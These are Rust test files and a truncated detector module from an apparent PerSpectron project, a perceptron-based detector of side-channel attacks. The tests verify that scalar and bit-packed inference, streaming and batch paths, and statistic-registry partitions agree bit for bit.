//! `to_bits()` comparison is the assertion throughout.

use std::sync::OnceLock;

use proptest::prelude::*;

use mlkit::{BitRow, Classifier, PackedPerceptron, Perceptron};
use perspectron::trace::stream_trace;
use perspectron::{
    CollectedCorpus, CorpusSpec, Dataset, Encoding, FaultPlan, FaultSpec, InferencePath,
    PerSpectron, StreamingDetector,
};
use uarch_stats::SampleSink;

/// A two-workload spec (one attack, one benign) small enough to collect
/// once and share across every test in the suite.
fn tiny_spec() -> CorpusSpec {
    let mut all = workloads::full_suite();
    all.retain(|w| w.name == "flush-reload" || w.name == "hmmer");
    CorpusSpec {
        insts_per_workload: 60_000,
        sample_interval: 10_000,
        workloads: all,
    }
}

fn corpus() -> &'static CollectedCorpus {
    static C: OnceLock<CollectedCorpus> = OnceLock::new();
    C.get_or_init(|| tiny_spec().collect_serial())
}

fn detector() -> &'static PerSpectron {
    static D: OnceLock<PerSpectron> = OnceLock::new();
    D.get_or_init(|| PerSpectron::train(corpus(), 42))
}

/// Bitwise equality of two verdict streams: confidence bits, suspicious
/// flags, instruction counts, and full `Degraded` payloads.
fn assert_verdicts_bit_equal(scalar: &StreamingDetector, packed: &StreamingDetector, what: &str) {
    let (a, b) = (scalar.verdicts(), packed.verdicts());
    assert_eq!(a.len(), b.len(), "{what}: verdict counts differ");
    for (i, (va, vb)) in a.iter().zip(b).enumerate() {
        assert_eq!(va.at_inst, vb.at_inst, "{what}: interval {i} timestamps");
        assert_eq!(
            va.confidence.to_bits(),
            vb.confidence.to_bits(),
            "{what}: interval {i} confidence {} vs {}",
            va.confidence,
            vb.confidence
        );
        assert_eq!(
            va.suspicious, vb.suspicious,
            "{what}: interval {i} verdict flipped"
        );
        assert_eq!(
            va.degraded, vb.degraded,
            "{what}: interval {i} degradation accounting diverged"
        );
    }
}

#[test]
fn confidence_series_is_bit_identical_on_a_real_corpus() {
    let det = detector();
    for t in &corpus().traces {
        let scalar = det.confidence_series_via(t, InferencePath::Scalar);
        let packed = det.confidence_series_via(t, InferencePath::Packed);
        assert_eq!(scalar.len(), packed.len());
        for (j, (a, b)) in scalar.iter().zip(&packed).enumerate() {
            assert_eq!(
                a.to_bits(),
                b.to_bits(),
                "{} sample {j}: packed confidence {b} != scalar {a}",
                t.name
            );
        }
    }
}

#[test]
fn evaluate_via_produces_identical_reports() {
    let det = detector();
    let scalar = det.evaluate_via(corpus(), InferencePath::Scalar);
    let packed = det.evaluate_via(corpus(), InferencePath::Packed);
    assert_eq!(scalar.confusion.tp, packed.confusion.tp);
    assert_eq!(scalar.confusion.fp, packed.confusion.fp);
    assert_eq!(scalar.confusion.tn, packed.confusion.tn);
    assert_eq!(scalar.confusion.fn_, packed.confusion.fn_);
    assert_eq!(
        scalar.false_positive_workloads,
        packed.false_positive_workloads
    );
    assert_eq!(
        scalar.false_negative_workloads,
        packed.false_negative_workloads
    );
}

#[test]
fn streaming_packed_matches_streaming_scalar_on_clean_runs() {
    let det = detector();
    let spec = tiny_spec();
    for w in &spec.workloads {
        let mut scalar = det.streaming();
        let mut packed = det.streaming_packed();
        assert_eq!(scalar.inference_path(), InferencePath::Scalar);
        assert_eq!(packed.inference_path(), InferencePath::Packed);
        stream_trace(
            w,
            spec.insts_per_workload,
            spec.sample_interval,
            &mut scalar,
        );
        stream_trace(
            w,
            spec.insts_per_workload,
            spec.sample_interval,
            &mut packed,
        );
        packed.flush();
        assert_eq!(packed.pending_intervals(), 0, "flush drains the batch");
        assert_verdicts_bit_equal(&scalar, &packed, &w.name);
    }
}

#[test]
fn packed_path_batches_and_flush_is_idempotent() {
    let det = detector();
    let mut packed = det.streaming_packed();
    let width = det.schema().len();
    let row = vec![1.0; width];
    // 70 windows: one auto-flushed batch of 64 plus 6 pending.
    for i in 0..70u64 {
        packed.on_sample((i + 1) * 10_000, &row);
    }
    assert_eq!(packed.verdicts().len(), 64, "first batch auto-flushes");
    assert_eq!(packed.pending_intervals(), 6);
    packed.flush();
    assert_eq!(packed.verdicts().len(), 70);
    packed.flush();
    assert_eq!(packed.verdicts().len(), 70, "flush on empty is a no-op");
    // Same stream through the scalar sink: the batching must not have
    // changed a single verdict bit (the encoding varies per sampling
    // point, so this covers 70 distinct max-matrix columns).
    let mut scalar = det.streaming();
    for i in 0..70u64 {
        scalar.on_sample((i + 1) * 10_000, &row);
    }
    assert_verdicts_bit_equal(&scalar, &packed, "fixed-row stream");
}

#[test]
fn reset_clears_the_pending_batch() {
    let det = detector();
    let mut packed = det.streaming_packed();
    let row = vec![1.0; det.schema().len()];
    packed.on_sample(10_000, &row);
    assert_eq!(packed.pending_intervals(), 1);
    packed.reset();
    assert_eq!(packed.pending_intervals(), 0);
    packed.flush();
    assert!(packed.verdicts().is_empty(), "reset discards unscored rows");
}

#[test]
fn heavy_faults_degrade_both_paths_identically() {
    let det = detector();
    let spec = tiny_spec();
    // The PR 5 resilience bar: heavy dropout plus corruption, deterministic
    // per workload. Both sinks see the same faulted stream and must agree
    // on every verdict and every Degraded payload.
    let plan = FaultPlan::new(
        FaultSpec {
            seed: 7,
            component_dropout: 0.9,
            row_drop: 0.1,
            corruption: 0.3,
            interval_jitter: 500,
        },
        corpus().schema(),
    );
    for w in &spec.workloads {
        let mut scalar = plan.sink_for(&w.name, det.streaming());
        let mut packed = plan.sink_for(&w.name, det.streaming_packed());
        stream_trace(
            w,
            spec.insts_per_workload,
            spec.sample_interval,
            &mut scalar,
        );
        stream_trace(
            w,
            spec.insts_per_workload,
            spec.sample_interval,
            &mut packed,
        );
        let scalar = scalar.into_inner();
        let mut packed = packed.into_inner();
        packed.flush();
        assert!(
            scalar.degraded_intervals() > 0,
            "{}: a 90% dropout plan must degrade something",
            w.name
        );
        assert_verdicts_bit_equal(&scalar, &packed, &w.name);
    }
}

#[test]
fn all_degraded_rows_agree_between_paths() {
    let det = detector();
    let width = det.schema().len();
    // Every value non-finite: the scalar path sanitizes all of them to
    // zero; the packed path masks every projected lane invalid. Both must
    // report the same confidence and the same sanitized_values count.
    let poison: Vec<f64> = (0..width)
        .map(|i| if i % 2 == 0 { f64::NAN } else { f64::INFINITY })
        .collect();
    let dead = vec![0.0; width];
    let mut scalar = det.streaming();
    let mut packed = det.streaming_packed();
    for sink in [&mut scalar, &mut packed] {
        sink.on_sample(10_000, &poison);
        sink.on_sample(20_000, &dead);
    }
    packed.flush();
    assert_verdicts_bit_equal(&scalar, &packed, "all-degraded rows");
    let d = scalar.verdicts()[0]
        .degraded
        .as_ref()
        .expect("poison row degrades");
    assert_eq!(d.sanitized_values, width);
    assert!(scalar.verdicts()[1]
        .degraded
        .as_ref()
        .expect("dead row degrades")
        .missing_components
        .contains(&"cpu".to_string()));
}

#[test]
fn dataset_packed_rows_reproduce_scalar_scores_in_batch() {
    let det = detector();
    let ds = Dataset::from_corpus(corpus(), Encoding::KSparse);
    let selected = &det.selection().selected;
    let batch = ds.packed_rows(selected);
    assert_eq!(batch.len(), ds.len());
    let engine = det.packed_perceptron();
    let mut scores = Vec::new();
    engine.score_rows(&batch, &mut scores);
    for (i, (s, raw)) in ds.samples.iter().zip(&scores).enumerate() {
        let projected: Vec<f64> = selected.iter().map(|&c| s.x[c]).collect();
        assert_eq!(
            raw.to_bits(),
            det.perceptron().score(&projected).to_bits(),
            "sample {i}: batched packed score diverged"
        );
    }
}

#[test]
fn quantized_popcount_agrees_with_the_sequential_adder_on_real_samples() {
    let det = detector();
    let engine = det.packed_perceptron();
    let packed_encoder = det.packed_encoder();
    let full_encoder = det.input_encoder();
    for t in &corpus().traces {
        for (p, raw) in t.trace.rows().enumerate() {
            let row = packed_encoder.encode_bits(raw, p);
            let full = full_encoder.encode(raw, p);
            assert_eq!(
                engine.predict_quantized(&row),
                det.is_suspicious_quantized(&full),
                "{} point {p}: quantized engines disagree",
                t.name
            );
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    /// Any width (tails included), any weights, any 0/1/non-finite input:
    /// the packed engine scores bit-identically to the dense perceptron
    /// scoring the sanitized row.
    #[test]
    fn packed_scores_match_scalar_for_random_rows(
        width in 1usize..200,
        seed in 0u64..u64::MAX,
    ) {
        let mut s = seed.max(1);
        let mut next = move || {
            // xorshift64* — the repo's stock deterministic generator.
            s ^= s >> 12;
            s ^= s << 25;
            s ^= s >> 27;
            s.wrapping_mul(0x2545_F491_4F6C_DD1D)
        };
        let weights: Vec<f64> = (0..width)
            .map(|_| (next() % 2000) as f64 / 100.0 - 10.0)
            .collect();
        let bias = (next() % 500) as f64 / 100.0 - 2.5;
        let mut p = Perceptron::new(width);
        p.set_weights(weights, bias).unwrap();
        let packed = PackedPerceptron::from_perceptron(&p);
        for _ in 0..16 {
            let dense: Vec<f64> = (0..width)
                .map(|_| match next() % 5 {
                    0 | 1 => 1.0,
                    2 => 0.0,
                    3 => f64::NAN,
                    _ => f64::INFINITY,
                })
                .collect();
            let row = BitRow::from_f64(&dense);
            let sanitized: Vec<f64> = dense
                .iter()
                .map(|&v| if v.is_finite() { v } else { 0.0 })
                .collect();
            prop_assert_eq!(
                packed.score_bits(&row).to_bits(),
                p.score(&sanitized).to_bits(),
                "width {}: packed score diverged",
                width
            );
            prop_assert_eq!(packed.predict_bits(&row), p.predict(&sanitized));
        }
    }

    /// Any fault plan — heavy dropout and corruption included — leaves
    /// the two streaming paths in bit-identical agreement, verdicts and
    /// Degraded payloads alike.
    #[test]
    fn faulted_streams_agree_between_paths(
        seed in 0u64..u64::MAX,
        dropout in 0.0f64..0.9,
        corruption in 0.0f64..0.9,
    ) {
        let det = detector();
        let spec = tiny_spec();
        let plan = FaultPlan::new(
            FaultSpec {
                seed,
                component_dropout: dropout,
                row_drop: 0.1,
                corruption,
                interval_jitter: 1_000,
            },
            corpus().schema(),
        );
        let w = &spec.workloads[0];
        let mut scalar = plan.sink_for(&w.name, det.streaming());
        let mut packed = plan.sink_for(&w.name, det.streaming_packed());
        stream_trace(w, spec.insts_per_workload, spec.sample_interval, &mut scalar);
        stream_trace(w, spec.insts_per_workload, spec.sample_interval, &mut packed);
        let scalar = scalar.into_inner();
        let mut packed = packed.into_inner();
        packed.flush();
        let (a, b) = (scalar.verdicts(), packed.verdicts());
        prop_assert_eq!(a.len(), b.len());
        for (va, vb) in a.iter().zip(b) {
            prop_assert_eq!(va.confidence.to_bits(), vb.confidence.to_bits());
            prop_assert_eq!(va.suspicious, vb.suspicious);
            prop_assert_eq!(&va.degraded, &vb.degraded);
        }
    }
}
