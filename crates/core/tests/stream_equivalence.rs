//! Batch/stream and serial/parallel equivalence: the streaming pipeline
//! must be a pure refactoring of the batch path — bit-identical feature
//! matrices, identical detector verdicts, byte-equal corpora — on the full
//! `CorpusSpec::quick()` suite.

use std::sync::{Arc, OnceLock};

use perspectron::stream::StreamingFeaturizer;
use perspectron::trace::stream_trace;
use perspectron::{CollectedCorpus, CorpusSpec, Dataset, Encoding, PerSpectron, RowEncoder};

fn spec() -> CorpusSpec {
    CorpusSpec::quick()
}

fn serial_corpus() -> &'static CollectedCorpus {
    static C: OnceLock<CollectedCorpus> = OnceLock::new();
    C.get_or_init(|| spec().collect_serial())
}

#[test]
fn parallel_collection_is_byte_equal_to_serial_on_quick() {
    let serial = serial_corpus();
    let parallel = spec().collect_with_threads(4);
    assert_eq!(serial.traces.len(), parallel.traces.len());
    for (a, b) in serial.traces.iter().zip(&parallel.traces) {
        assert_eq!(a.name, b.name, "ordered merge must preserve spec order");
        assert_eq!(a.class, b.class);
        assert_eq!(a.family, b.family);
        assert_eq!(
            a.trace.flat_values(),
            b.trace.flat_values(),
            "{}: parallel trace bytes differ from serial",
            a.name
        );
        assert_eq!(a.trace.instruction_counts(), b.trace.instruction_counts());
        assert_eq!(a.marks, b.marks, "{}: marks differ", a.name);
    }
}

#[test]
fn streaming_features_are_bit_identical_to_batch_on_quick() {
    let corpus = serial_corpus();
    let ds = Dataset::from_corpus(corpus, Encoding::KSparse);
    let encoder = RowEncoder::new(Arc::new(ds.max_matrix.clone()), Encoding::KSparse);

    let mut streamed: Vec<Vec<f64>> = Vec::with_capacity(ds.len());
    for w in &spec().workloads {
        let mut f = StreamingFeaturizer::new(encoder.clone());
        stream_trace(w, spec().insts_per_workload, spec().sample_interval, &mut f);
        streamed.extend(f.into_rows());
    }

    assert_eq!(streamed.len(), ds.len(), "sample counts must match");
    for (i, (s, b)) in streamed.iter().zip(&ds.samples).enumerate() {
        assert!(
            s.iter().zip(&b.x).all(|(a, b)| a.to_bits() == b.to_bits()),
            "sample {i}: streamed feature row not bit-identical to batch"
        );
    }
}

#[test]
fn streaming_verdicts_match_batch_confidence_series_on_quick() {
    let corpus = serial_corpus();
    let detector = PerSpectron::train(corpus, 42);

    for (w, t) in spec().workloads.iter().zip(&corpus.traces) {
        let batch: Vec<f64> = detector.confidence_series(t);
        let mut monitor = detector.streaming();
        stream_trace(
            w,
            spec().insts_per_workload,
            spec().sample_interval,
            &mut monitor,
        );
        let verdicts = monitor.verdicts();
        assert_eq!(
            verdicts.len(),
            batch.len(),
            "{}: interval counts differ",
            w.name
        );
        for (v, c) in verdicts.iter().zip(&batch) {
            assert_eq!(
                v.confidence.to_bits(),
                c.to_bits(),
                "{}: online confidence must be bit-identical to batch",
                w.name
            );
            assert_eq!(
                v.suspicious,
                *c >= detector.threshold,
                "{}: online verdict must match batch thresholding",
                w.name
            );
        }
    }
}
