//! Edge cases of the packed path's `flush()` the detection service leans
//! on: empty flushes, double flushes, interleaved push/flush across batch
//! boundaries, and the two-phase `StreamSession` matching the
//! single-stream sink bit for bit.

use std::sync::OnceLock;

use perspectron::{CollectedCorpus, CorpusSpec, PerSpectron, SessionState, StreamSession};
use uarch_stats::SampleSink;

fn tiny_spec() -> CorpusSpec {
    let mut all = workloads::full_suite();
    all.retain(|w| w.name == "flush-reload" || w.name == "hmmer");
    CorpusSpec {
        insts_per_workload: 60_000,
        sample_interval: 10_000,
        workloads: all,
    }
}

fn corpus() -> &'static CollectedCorpus {
    static C: OnceLock<CollectedCorpus> = OnceLock::new();
    C.get_or_init(|| tiny_spec().collect_serial())
}

fn detector() -> &'static PerSpectron {
    static D: OnceLock<PerSpectron> = OnceLock::new();
    D.get_or_init(|| PerSpectron::train(corpus(), 7))
}

/// Synthetic but deterministic raw rows: scaled shifts of a real trace's
/// first row, so the encoder sees varied (not degenerate) values.
fn synth_rows(n: usize) -> Vec<Vec<f64>> {
    let trace = &corpus().traces[0].trace;
    let width = trace.schema().len();
    let flat = trace.flat_values();
    (0..n)
        .map(|i| {
            (0..width)
                .map(|c| {
                    let base = flat[(i % trace.len()) * width + c];
                    base * (1.0 + 0.125 * ((i + c) % 5) as f64)
                })
                .collect()
        })
        .collect()
}

#[test]
fn flush_with_zero_pending_windows_is_a_noop() {
    let det = detector();
    let mut mon = det.streaming_packed();
    assert_eq!(mon.pending_intervals(), 0);
    mon.flush();
    assert_eq!(mon.verdicts().len(), 0);

    // Scalar path: flush is always a no-op, pending is always zero.
    let mut scalar = det.streaming();
    scalar.flush();
    assert_eq!(scalar.verdicts().len(), 0);
    assert_eq!(scalar.pending_intervals(), 0);
}

#[test]
fn double_flush_does_not_duplicate_verdicts() {
    let det = detector();
    let rows = synth_rows(5);
    let mut mon = det.streaming_packed();
    for (i, r) in rows.iter().enumerate() {
        mon.on_sample((i as u64 + 1) * 10_000, r);
    }
    assert_eq!(mon.pending_intervals(), 5);
    mon.flush();
    let after_first = mon.verdicts().to_vec();
    assert_eq!(after_first.len(), 5);
    assert_eq!(mon.pending_intervals(), 0);
    mon.flush();
    assert_eq!(
        mon.verdicts(),
        &after_first[..],
        "second flush must not re-score or duplicate"
    );
}

#[test]
fn interleaved_push_flush_matches_one_final_flush_across_batch_boundaries() {
    let det = detector();
    // Enough rows to cross the 64-window batch boundary several times.
    let rows = synth_rows(200);

    // Reference: push everything, flush once at the end (internal sweeps
    // fire at each full batch).
    let mut reference = det.streaming_packed();
    for (i, r) in rows.iter().enumerate() {
        reference.on_sample((i as u64 + 1) * 10_000, r);
    }
    reference.flush();

    // Adversarial flush cadence: partial batches of awkward sizes,
    // including flushes landing exactly on and just past the boundary.
    let mut interleaved = det.streaming_packed();
    let mut next = 0;
    for (chunk, flushes) in [(1, 1), (63, 1), (64, 2), (65, 1), (3, 3), (4, 1)] {
        for _ in 0..chunk {
            let r = &rows[next];
            interleaved.on_sample((next as u64 + 1) * 10_000, r);
            next += 1;
        }
        for _ in 0..flushes {
            interleaved.flush();
        }
    }
    while next < rows.len() {
        interleaved.on_sample((next as u64 + 1) * 10_000, &rows[next]);
        next += 1;
    }
    interleaved.flush();

    assert_eq!(reference.verdicts().len(), rows.len());
    assert_eq!(interleaved.verdicts().len(), rows.len());
    for (a, b) in reference.verdicts().iter().zip(interleaved.verdicts()) {
        assert_eq!(a.at_inst, b.at_inst);
        assert_eq!(
            a.confidence.to_bits(),
            b.confidence.to_bits(),
            "flush cadence must never change a verdict"
        );
        assert_eq!(a.suspicious, b.suspicious);
        assert_eq!(a.degraded, b.degraded);
    }
}

/// The service's two-phase session (open → batch elsewhere → close) must
/// reproduce the single-stream packed sink exactly, including degraded
/// accounting, when driven window by window.
#[test]
fn stream_session_two_phase_scoring_matches_the_packed_sink() {
    let det = detector();
    let mut rows = synth_rows(70);
    // Inject corruption so degraded accounting is exercised too.
    rows[10][0] = f64::NAN;
    rows[33][5] = f64::INFINITY;

    let mut sink = det.streaming_packed();
    for (i, r) in rows.iter().enumerate() {
        sink.on_sample((i as u64 + 1) * 10_000, r);
    }
    sink.flush();

    let encoder = det.packed_encoder();
    let engine = det.packed_perceptron().clone();
    let mut session = StreamSession::new(det);
    let mut bits = mlkit::BitRow::zeros(encoder.width());
    for (i, r) in rows.iter().enumerate() {
        let mut owned = r.clone();
        let (point, degraded) = session.open_window(&mut owned);
        assert_eq!(point, i);
        encoder.encode_bits_into(&owned, point, &mut bits);
        let raw = engine.score_bits(&bits);
        session.close_window(det, (i as u64 + 1) * 10_000, degraded, raw);
    }

    assert_eq!(session.verdicts().len(), sink.verdicts().len());
    for (a, b) in session.verdicts().iter().zip(sink.verdicts()) {
        assert_eq!(a.at_inst, b.at_inst);
        assert_eq!(a.confidence.to_bits(), b.confidence.to_bits());
        assert_eq!(a.suspicious, b.suspicious);
        assert_eq!(a.degraded, b.degraded);
    }
}

#[test]
fn sessions_quarantine_on_consecutive_degradation_and_recover_on_reset() {
    let det = detector();
    let width = det.schema().len();
    let healthy = synth_rows(1).remove(0);
    let dead = vec![0.0f64; width];

    let mut s = StreamSession::new(det).with_quarantine_after(3);
    let encoder = det.packed_encoder();
    let engine = det.packed_perceptron().clone();
    let mut bits = mlkit::BitRow::zeros(encoder.width());
    let mut drive = |s: &mut StreamSession, row: &[f64]| {
        let mut owned = row.to_vec();
        let (point, degraded) = s.open_window(&mut owned);
        encoder.encode_bits_into(&owned, point, &mut bits);
        let raw = engine.score_bits(&bits);
        s.close_window(det, (point as u64 + 1) * 10_000, degraded, raw);
    };

    drive(&mut s, &healthy);
    assert_eq!(s.state(), SessionState::Healthy);
    drive(&mut s, &dead);
    assert_eq!(s.state(), SessionState::Degraded);
    drive(&mut s, &healthy);
    assert_eq!(
        s.state(),
        SessionState::Healthy,
        "one clean window recovers"
    );
    for _ in 0..3 {
        drive(&mut s, &dead);
    }
    assert_eq!(s.state(), SessionState::Quarantined);
    drive(&mut s, &healthy);
    assert_eq!(
        s.state(),
        SessionState::Quarantined,
        "quarantine is sticky until operator reset"
    );
    assert_eq!(s.degraded_windows(), 4);
    assert_eq!(s.verdicts().len(), 7, "quarantine never drops windows");

    s.reset();
    assert_eq!(s.state(), SessionState::Healthy);
    assert_eq!(s.windows_opened(), 0);
    assert!(s.verdicts().is_empty());
}
