//! The component registry must partition the full statistic schema.
//!
//! PerSpectron's replicated-detector premise rests on a fixed taxonomy: the
//! 1159 statistics split across exactly 17 pipeline components. These tests
//! pin that partition against the live schema and check that the shared
//! registry reproduces the legacy string-parsing convention on every name.

use std::collections::BTreeMap;

use sim_cpu::{Core, CoreConfig};
use uarch_stats::{ComponentId, ComponentRegistry};

/// The schema as the collector sees it: all 1159 flat stat names.
fn schema_names() -> Vec<String> {
    let core = Core::new(CoreConfig::default(), {
        let mut a = uarch_isa::Assembler::new("schema-probe");
        a.halt();
        a.finish().expect("probe assembles")
    });
    core.stat_schema().names().to_vec()
}

/// The legacy prefix parser `component_of` used before the registry
/// existed, kept verbatim as the reference implementation.
fn legacy_component_of(name: &str) -> &str {
    let prefix = name.split('.').next().unwrap_or(name);
    match prefix {
        "dtlb" => "dtb",
        p if p == name && !name.contains('.') => "cpu",
        p => p,
    }
}

#[test]
fn seventeen_components_partition_all_1159_stat_names() {
    let names = schema_names();
    assert_eq!(
        names.len(),
        1159,
        "schema must expose the paper's 1159 stats"
    );
    assert_eq!(ComponentId::ALL.len(), 17);

    // Every name resolves to exactly one component (total coverage)...
    let mut per_component: BTreeMap<ComponentId, usize> = BTreeMap::new();
    for name in &names {
        let c = ComponentRegistry::component_of(name)
            .unwrap_or_else(|| panic!("stat `{name}` resolves to no component"));
        *per_component.entry(c).or_default() += 1;
    }
    // ...and every component owns at least one name (no silent members).
    for c in ComponentId::ALL {
        assert!(
            per_component.get(&c).copied().unwrap_or(0) > 0,
            "component {:?} owns no statistic",
            c
        );
    }
    assert_eq!(per_component.len(), 17, "partition must use all 17 cells");
    assert_eq!(per_component.values().sum::<usize>(), 1159);
}

#[test]
fn registry_labels_match_the_legacy_parser_on_every_schema_name() {
    for name in schema_names() {
        assert_eq!(
            perspectron::component_of(&name),
            legacy_component_of(&name),
            "registry and legacy parser disagree on `{name}`"
        );
        assert_eq!(
            ComponentRegistry::label_of(&name),
            legacy_component_of(&name),
            "ComponentRegistry::label_of diverges on `{name}`"
        );
    }
}

#[test]
fn alias_prefixes_resolve_to_their_owning_component() {
    let names = schema_names();
    let lsq: Vec<&String> = names.iter().filter(|n| n.starts_with("lsq.")).collect();
    let dtlb: Vec<&String> = names.iter().filter(|n| n.starts_with("dtlb.")).collect();
    assert!(
        !lsq.is_empty() && !dtlb.is_empty(),
        "alias groups must exist"
    );
    for n in lsq {
        assert_eq!(ComponentRegistry::component_of(n), Some(ComponentId::Iew));
    }
    for n in dtlb {
        assert_eq!(ComponentRegistry::component_of(n), Some(ComponentId::Dtb));
    }
}
