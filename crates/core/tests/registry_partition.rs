//! The component registry must partition the full statistic schema.
//!
//! PerSpectron's replicated-detector premise rests on a fixed taxonomy: the
//! 1159 statistics split across exactly 17 pipeline components. These tests
//! pin that partition against the live schema and check that the shared
//! registry reproduces the legacy string-parsing convention on every name.

use std::collections::{BTreeMap, BTreeSet};

use sim_cpu::{Core, CoreConfig, Machine};
use sim_mem::HierarchyConfig;
use uarch_stats::{ComponentId, ComponentRegistry};

/// The schema as the collector sees it: all 1159 flat stat names.
fn schema_names() -> Vec<String> {
    let core = Core::new(CoreConfig::default(), {
        let mut a = uarch_isa::Assembler::new("schema-probe");
        a.halt();
        a.finish().expect("probe assembles")
    });
    core.stat_schema().names().to_vec()
}

/// The legacy prefix parser `component_of` used before the registry
/// existed, kept verbatim as the reference implementation.
fn legacy_component_of(name: &str) -> &str {
    let prefix = name.split('.').next().unwrap_or(name);
    match prefix {
        "dtlb" => "dtb",
        p if p == name && !name.contains('.') => "cpu",
        p => p,
    }
}

#[test]
fn seventeen_components_partition_all_1159_stat_names() {
    let names = schema_names();
    assert_eq!(
        names.len(),
        1159,
        "schema must expose the paper's 1159 stats"
    );
    assert_eq!(ComponentId::ALL.len(), 17);

    // Every name resolves to exactly one component (total coverage)...
    let mut per_component: BTreeMap<ComponentId, usize> = BTreeMap::new();
    for name in &names {
        let c = ComponentRegistry::component_of(name)
            .unwrap_or_else(|| panic!("stat `{name}` resolves to no component"));
        *per_component.entry(c).or_default() += 1;
    }
    // ...and every component owns at least one name (no silent members).
    for c in ComponentId::ALL {
        assert!(
            per_component.get(&c).copied().unwrap_or(0) > 0,
            "component {:?} owns no statistic",
            c
        );
    }
    assert_eq!(per_component.len(), 17, "partition must use all 17 cells");
    assert_eq!(per_component.values().sum::<usize>(), 1159);
}

#[test]
fn registry_labels_match_the_legacy_parser_on_every_schema_name() {
    for name in schema_names() {
        assert_eq!(
            perspectron::component_of(&name),
            legacy_component_of(&name),
            "registry and legacy parser disagree on `{name}`"
        );
        assert_eq!(
            ComponentRegistry::label_of(&name),
            legacy_component_of(&name),
            "ComponentRegistry::label_of diverges on `{name}`"
        );
    }
}

/// The two-core schema as the collector sees it: core-local banks under
/// `core0.` / `core1.`, shared uncore unscoped.
fn two_core_schema_names() -> Vec<String> {
    let probe = || {
        let mut a = uarch_isa::Assembler::new("schema-probe");
        a.halt();
        a.finish().expect("probe assembles")
    };
    let mach = Machine::new(
        &CoreConfig::default(),
        &HierarchyConfig::default(),
        vec![probe(), probe()],
    );
    mach.stat_schema().names().to_vec()
}

#[test]
fn namespaced_two_core_schema_still_partitions_into_the_17_components() {
    let names = two_core_schema_names();

    // Every namespaced name still resolves to exactly one component, and
    // the per-core scopes each replicate all 13 core-local components
    // while the 4 shared uncore components appear once, unscoped.
    let mut per_scope: BTreeMap<Option<usize>, BTreeSet<ComponentId>> = BTreeMap::new();
    for name in &names {
        let c = ComponentRegistry::component_of(name)
            .unwrap_or_else(|| panic!("stat `{name}` resolves to no component"));
        let scope = ComponentRegistry::scope_of(name);
        assert_eq!(
            scope.is_none(),
            c.is_shared(),
            "`{name}`: core-local stats must be core-scoped, shared stats unscoped"
        );
        per_scope.entry(scope).or_default().insert(c);
    }
    for core in [0usize, 1] {
        let seen = &per_scope[&Some(core)];
        assert_eq!(
            seen.iter().copied().collect::<Vec<_>>(),
            ComponentId::CORE_LOCAL.to_vec(),
            "core{core} must replicate exactly the 13 core-local components"
        );
    }
    assert_eq!(
        per_scope[&None].iter().copied().collect::<Vec<_>>(),
        ComponentId::SHARED.to_vec(),
        "the shared scope must hold exactly the 4 uncore components"
    );

    // The analysis-crate coverage lint agrees that this schema is clean.
    let issues = uarch_analysis::lint_component_coverage(&names);
    assert!(issues.is_empty(), "{issues:?}");
}

#[test]
fn scoped_labels_keep_one_feature_bank_per_core_per_component() {
    let names = two_core_schema_names();
    let labels: BTreeSet<String> = names
        .iter()
        .map(|n| ComponentRegistry::scoped_label_of(n))
        .collect();
    // 14 legacy core-local labels (the 13 components plus the `lsq`/
    // `memDep` alias banks minus the folded `dtlb`) per core scope, plus
    // the 4 shared labels. What matters: core0 and core1 banks stay
    // distinct, and shared banks are not per-core.
    for label in ["fetch", "dcache", "cpu", "lsq"] {
        assert!(labels.contains(&format!("core0.{label}")), "core0.{label}");
        assert!(labels.contains(&format!("core1.{label}")), "core1.{label}");
    }
    for shared in ["l2", "tol2bus", "membus", "mem_ctrls"] {
        assert!(labels.contains(shared), "shared bank {shared}");
        assert!(!labels.contains(&format!("core0.{shared}")));
    }
}

#[test]
fn alias_prefixes_resolve_to_their_owning_component() {
    let names = schema_names();
    let lsq: Vec<&String> = names.iter().filter(|n| n.starts_with("lsq.")).collect();
    let dtlb: Vec<&String> = names.iter().filter(|n| n.starts_with("dtlb.")).collect();
    assert!(
        !lsq.is_empty() && !dtlb.is_empty(),
        "alias groups must exist"
    );
    for n in lsq {
        assert_eq!(ComponentRegistry::component_of(n), Some(ComponentId::Iew));
    }
    for n in dtlb {
        assert_eq!(ComponentRegistry::component_of(n), Some(ComponentId::Dtb));
    }
}
