//! The PerSpectron detector: a hardware-style perceptron over the selected
//! replicated invariant features.

use std::sync::Arc;

use mlkit::{confusion, BitRow, Classifier, Confusion, PackedPerceptron, PackedRows, Perceptron};
use uarch_stats::Schema;

use crate::dataset::{Dataset, Encoding};
use crate::encode::{MaxMatrix, RowEncoder};
use crate::features::{component_of, FeatureSelection, SelectionConfig};
use crate::hardware::HardwareCost;
use crate::stream::StreamingDetector;
use crate::trace::{CollectedCorpus, LabeledTrace};

/// Which inference engine scores encoded windows.
///
/// The two paths produce bit-identical verdicts (same confidences, same
/// suspicious flags, same degradation accounting) — `Packed` is purely a
/// throughput optimization that works on bit-packed rows with a frozen
/// [`PackedPerceptron`] instead of dense `f64` rows.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum InferencePath {
    /// Dense `f64` rows scored by the trained [`Perceptron`] (reference).
    #[default]
    Scalar,
    /// Bit-packed rows scored by a frozen [`PackedPerceptron`].
    Packed,
}

impl InferencePath {
    /// Stable lowercase label for logs and JSON reports.
    pub fn label(self) -> &'static str {
        match self {
            InferencePath::Scalar => "scalar",
            InferencePath::Packed => "packed",
        }
    }
}

/// Evaluation summary of a detector over a corpus.
#[derive(Debug, Clone)]
pub struct DetectionReport {
    /// Confusion counts at the configured threshold.
    pub confusion: Confusion,
    /// Workload names that produced false positives.
    pub false_positive_workloads: Vec<String>,
    /// Workload names that produced false negatives.
    pub false_negative_workloads: Vec<String>,
}

/// The trained detector.
#[derive(Debug, Clone)]
pub struct PerSpectron {
    selection: FeatureSelection,
    perceptron: Perceptron,
    /// Decision threshold on the normalized output. The natural operating
    /// point of the trained perceptron is 0 (its sign); the ROC experiment
    /// (Figure 5) sweeps this to find the best trade-off, as the paper does
    /// when it reports 0.25 on its own output scale.
    pub threshold: f64,
    weight_norm: f64,
    dataset_blueprint: DatasetBlueprint,
    /// The perceptron frozen for bit-packed inference, built on first use
    /// (the weights never change after training, so one freeze serves
    /// every packed scoring call).
    frozen: std::sync::OnceLock<PackedPerceptron>,
}

/// What the detector needs to encode unseen traces the same way the
/// training corpus was encoded. The max matrix is shared (`Arc`) so
/// streaming detectors deployed per-process don't copy it; the schema
/// (already `Arc`-backed) lets degradation checks map columns back to
/// pipeline components.
#[derive(Debug, Clone)]
struct DatasetBlueprint {
